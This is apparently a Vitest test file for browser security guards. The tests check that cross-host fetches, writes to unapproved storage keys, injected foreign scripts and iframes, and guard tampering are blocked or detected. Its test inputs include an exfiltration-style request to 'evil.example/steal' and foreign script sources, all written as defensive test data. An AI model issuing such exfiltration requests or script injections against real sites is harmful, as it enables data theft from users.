import { beforeAll, describe, expect, it, vi } from "vitest";
import { installGuards } from "./guards.ts";
import { type Incident, integrityCheckMs } from "./rules.ts";

const incidents: Incident[] = [];
const network = vi.fn<typeof fetch>(async () => new Response("ok"));
const asAny = (storage: Storage) => storage as unknown as Record<string, string>;
const types = () => incidents.map(({ type }) => type);

beforeAll(() => {
  vi.useFakeTimers({ toFake: ["setInterval"] });
  window.fetch = network;
  installGuards((incident) => incidents.push(incident));
});

describe("the client guards", () => {
  it("block requests to other hosts and let our own through", async () => {
    await expect(fetch("https://evil.example/steal?x=1")).rejects.toThrow("Request blocked by security policy");
    expect(network).not.toHaveBeenCalled();
    expect(await (await fetch("/api/stats")).text()).toBe("ok");
    expect(incidents).toContainEqual({
      type: "request_blocked",

      details: { address: "https://evil.example/steal" },
    });
  });

  it("silently block writes to other keys", () => {
    localStorage.setItem("evil", "1");
    localStorage.setItem("gbh_fine", "1");
    expect(localStorage.getItem("evil")).toBeNull();
    expect(localStorage.getItem("gbh_fine")).toBe("1");
    expect(types()).toContain("storage_blocked");
  });

  it("block them whatever way they are written, and take nothing else from the storage", () => {
    for (const storage of [localStorage, window.sessionStorage]) {
      asAny(storage)["x"] = "y";
      Object.assign(storage, { x: "y" });
      Reflect.set(storage, "x", "y");
      Object.defineProperty(storage, "x", { value: "y", configurable: true, enumerable: true, writable: true });
      Storage.prototype.setItem.call(storage, "x", "y");
      asAny(storage)["getItem"] = "y";
      asAny(storage)["gbh_other"] = "1";
      expect([storage.getItem("x"), storage.getItem("getItem"), storage.getItem("gbh_other")]).toEqual([
        null,
        null,
        "1",
      ]);
      expect(asAny(storage)["gbh_other"]).toBe("1");
      expect(Object.keys(storage)).toContain("gbh_other");
      delete asAny(storage)["gbh_other"];
      expect(storage.getItem("gbh_other")).toBeNull();
    }
    expect(localStorage).toBeInstanceOf(Storage);
    expect(incidents).toContainEqual({ type: "storage_blocked", details: { key: "x" } });
  });

  it("remove foreign scripts and frames at any depth, and leave our own", async () => {
    const box = document.createElement("div");
    box.innerHTML = '<p><iframe src="https://evil.example/f"></iframe></p><script src="/assets/own.js"></script>';
    document.body.append(box);
    const script = document.createElement("script");
    script.src = "https://evil.example/x.js";
    document.head.append(script);
    await expect.poll(() => document.querySelectorAll("script[src], iframe[src]")).toHaveLength(1);
    expect(types().filter((type) => type === "foreign_element_removed")).toHaveLength(2);
  });

  it("remove a script of our own that becomes foreign", async () => {
    const script = document.querySelector("script[src]")!;
    script.setAttribute("src", "https://evil.example/later.js");
    await expect.poll(() => script.isConnected).toBe(false);
  });

  it("notice within five minutes that they were removed", () => {
    window.fetch = network;
    vi.advanceTimersByTime(integrityCheckMs);
    expect(incidents).toContainEqual({ type: "integrity_violation", details: { guard: "fetch" } });
  });
});
